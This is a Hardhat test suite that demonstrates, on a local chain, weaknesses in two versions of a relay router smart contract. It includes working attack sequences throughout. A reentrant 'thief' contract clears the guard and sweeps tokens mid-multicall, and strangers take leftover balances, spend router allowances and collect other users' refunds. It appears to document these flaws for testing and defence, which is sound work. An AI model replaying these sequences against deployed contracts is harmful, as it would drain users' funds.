import { expect } from "chai";
import { network } from "hardhat";

const { ethers, networkHelpers } = await network.create();

async function deployRouters() {
  const [solver, victim, stranger] = await ethers.getSigners();
  if (!solver || !victim || !stranger) throw new Error("The local chain has too few accounts.");
  const v3 = await ethers.deployContract("RelayRouterV3");
  const v2 = await ethers.deployContract("RelayRouterV2_1");
  const token = await ethers.deployContract("LocalToken", ["Dollar", "USD", 6, solver.address]);
  const thief = await ethers.deployContract("ReentrantTarget");
  return { v3, v2, token, thief, solver, victim, stranger };
}

function call(target: string, callData = "0x", value = 0n) {
  return { target, allowFailure: false, value, callData };
}

describe("the production weaknesses the routers keep", () => {
  it("v3: a nested call to itself clears the guard, and a third party sweeps in the same multicall", async () => {
    const { v3, token, thief, victim } = await networkHelpers.loadFixture(deployRouters);
    await token.mint(v3, 500n);
    const dollars = await token.getAddress();
    const steal = v3.interface.encodeFunctionData("cleanupErc20s", [
      [dollars],
      [await thief.getAddress()],
      [0n],
      "0x",
    ]);
    await thief.arm(v3, steal);
    const innocent = v3.interface.encodeFunctionData("cleanupErc20s", [
      [dollars],
      [victim.address],
      [1n],
      "0x",
    ]);

    await v3.multicall(
      [call(await v3.getAddress(), innocent), call(await thief.getAddress())],
      victim,
      ethers.ZeroAddress,
      "0x",
    );

    expect(await thief.lastSuccess()).to.equal(true);
    expect(await token.balanceOf(thief)).to.equal(499n);
  });

  it("v3: the guard is shut again for the refund of native currency", async () => {
    const { v3, thief, solver, victim } = await networkHelpers.loadFixture(deployRouters);
    const opening = v3.interface.encodeFunctionData("cleanupNative", [1n, victim.address, "0x"]);
    await thief.arm(v3, opening);
    await v3.multicall([call(await v3.getAddress(), opening)], thief, ethers.ZeroAddress, "0x", {
      value: 5n,
    });
    expect(await thief.lastReturnData()).to.equal(
      v3.interface.encodeErrorResult("InvalidMsgSender", [solver.address, await thief.getAddress()]),
    );
  });

  it("v3: what the approval proxy started can be entered again by anyone through the approval proxy", async () => {
    const { v3, token, thief, solver, victim } = await networkHelpers.loadFixture(deployRouters);
    const proxy = await ethers.deployContract("RelayApprovalProxyV3", [solver, v3, solver]);
    await token.mint(v3, 500n);
    const steal = v3.interface.encodeFunctionData("cleanupErc20s", [
      [await token.getAddress()],
      [await thief.getAddress()],
      [0n],
      "0x",
    ]);
    const nested = proxy.interface.encodeFunctionData("transferAndMulticall", [
      [],
      [],
      [call(await v3.getAddress(), steal)],
      victim.address,
      ethers.ZeroAddress,
      "0x",
    ]);
    await thief.arm(proxy, nested);
    await proxy.transferAndMulticall(
      [],
      [],
      [call(await thief.getAddress())],
      victim,
      ethers.ZeroAddress,
      "0x",
    );
    expect(await token.balanceOf(thief)).to.equal(500n);
  });

  it("v2.1: the cleanups are unguarded, so a third party sweeps in the middle of any multicall", async () => {
    const { v2, token, thief, victim } = await networkHelpers.loadFixture(deployRouters);
    await token.mint(v2, 500n);
    const steal = v2.interface.encodeFunctionData("cleanupErc20s", [
      [await token.getAddress()],
      [await thief.getAddress()],
      [0n],
    ]);
    await thief.arm(v2, steal);
    await v2.multicall([call(await thief.getAddress())], victim, ethers.ZeroAddress);
    expect(await thief.lastSuccess()).to.equal(true);
    expect(await token.balanceOf(thief)).to.equal(500n);
  });

  it("both: a stranger takes tokens and native currency that were left behind", async () => {
    const { v3, v2, token, stranger } = await networkHelpers.loadFixture(deployRouters);
    for (const router of [v3, v2]) {
      await token.mint(router, 5n);
      await networkHelpers.setBalance(await router.getAddress(), 7n);
    }
    const dollars = [await token.getAddress()];
    await v3.connect(stranger).cleanupErc20s(dollars, [stranger], [0n], "0x");
    await v2.connect(stranger).cleanupErc20s(dollars, [stranger], [0n]);
    expect(await token.balanceOf(stranger)).to.equal(10n);
    await expect(v3.connect(stranger).cleanupNative(0n, ethers.ZeroAddress, "0x")).to.changeEtherBalance(
      ethers,
      v3,
      -7n,
    );
    await expect(v2.connect(stranger).cleanupNative(0n, ethers.ZeroAddress)).to.changeEtherBalance(
      ethers,
      v2,
      -7n,
    );
  });

  it("both: the refund of a multicall includes native currency of others", async () => {
    const { v3, v2, stranger } = await networkHelpers.loadFixture(deployRouters);
    await networkHelpers.setBalance(await v3.getAddress(), 7n);
    await networkHelpers.setBalance(await v2.getAddress(), 8n);
    await expect(v3.multicall([], stranger, ethers.ZeroAddress, "0x", { value: 1n })).to.changeEtherBalance(
      ethers,
      stranger,
      8n,
    );
    await expect(v2.multicall([], stranger, ethers.ZeroAddress, { value: 1n })).to.changeEtherBalance(
      ethers,
      stranger,
      9n,
    );
  });

  it("both: an allowance given to a router is anyone's", async () => {
    const { v3, v2, token, victim, stranger } = await networkHelpers.loadFixture(deployRouters);
    await token.mint(victim, 500n);
    const steal = token.interface.encodeFunctionData("transferFrom", [
      victim.address,
      stranger.address,
      200n,
    ]);
    const calls = [call(await token.getAddress(), steal)];
    await token.connect(victim).approve(v3, 200n);
    await token.connect(victim).approve(v2, 200n);
    await v3.connect(stranger).multicall(calls, stranger, ethers.ZeroAddress, "0x");
    await v2.connect(stranger).multicall(calls, stranger, ethers.ZeroAddress);
    expect(await token.balanceOf(stranger)).to.equal(400n);
  });

  it("both: amount zero means everything, so a computed zero sweeps the balance", async () => {
    const { v3, v2, token, victim } = await networkHelpers.loadFixture(deployRouters);
    await token.mint(v3, 500n);
    await token.mint(v2, 600n);
    const dollars = [await token.getAddress()];
    await v3.cleanupErc20s(dollars, [victim], [0n], "0x");
    await v2.cleanupErc20s(dollars, [victim], [0n]);
    expect(await token.balanceOf(victim)).to.equal(1_100n);
  });

  it("both: cleanupErc20sViaCall leaves the allowance the target did not use", async () => {
    const { v3, v2, token, victim } = await networkHelpers.loadFixture(deployRouters);
    const vault = await ethers.deployContract("LocalVault", [token, "Dollar Vault", "vUSD"]);
    const deposit = vault.interface.encodeFunctionData("deposit", [200n, victim.address]);
    for (const router of [v3, v2]) {
      await token.mint(router, 500n);
      await router.cleanupErc20sViaCall([token.getAddress()], [vault.getAddress()], [deposit], [0n]);
      expect(await token.allowance(router, vault)).to.equal(300n);
      expect(await token.balanceOf(router)).to.equal(300n);
    }
  });

  it("both: cleanupErc20sViaCall ignores an approval that returns false", async () => {
    const { v3, v2, thief } = await networkHelpers.loadFixture(deployRouters);
    const token = await ethers.deployContract("ReturnsFalseToken");
    for (const router of [v3, v2]) {
      await token.mint(router, 5n);
      await router.cleanupErc20sViaCall([token.getAddress()], [thief.getAddress()], ["0x"], [0n]);
      expect(await token.allowance(router, thief)).to.equal(0n);
    }
  });

  it("both: cleanupErc20sViaCall cannot spend a token whose approval returns nothing", async () => {
    const { v3, v2, thief, solver } = await networkHelpers.loadFixture(deployRouters);
    const tether = await ethers.deployContract("LocalTether", [solver.address]);
    for (const router of [v3, v2]) {
      await tether.mint(router, 5n);
      await expect(
        router.cleanupErc20sViaCall([tether.getAddress()], [thief.getAddress()], ["0x"], [0n]),
      ).to.be.revertedWithoutReason(ethers);
    }
  });

  it("both: a call to an account without code succeeds and is logged", async () => {
    const { v3, v2, victim } = await networkHelpers.loadFixture(deployRouters);
    const nowhere = ethers.getAddress(`0x${"c0de".repeat(10)}`);
    await expect(v3.multicall([call(nowhere, "0xdeadbeef")], victim, ethers.ZeroAddress, "0x"))
      .to.emit(v3, "SolverCallExecuted")
      .withArgs(nowhere, "0xdeadbeef", 0n);
    await expect(v2.multicall([call(nowhere, "0xdeadbeef")], victim, ethers.ZeroAddress))
      .to.emit(v2, "SolverCallExecuted")
      .withArgs(nowhere, "0xdeadbeef", 0n);
  });
});
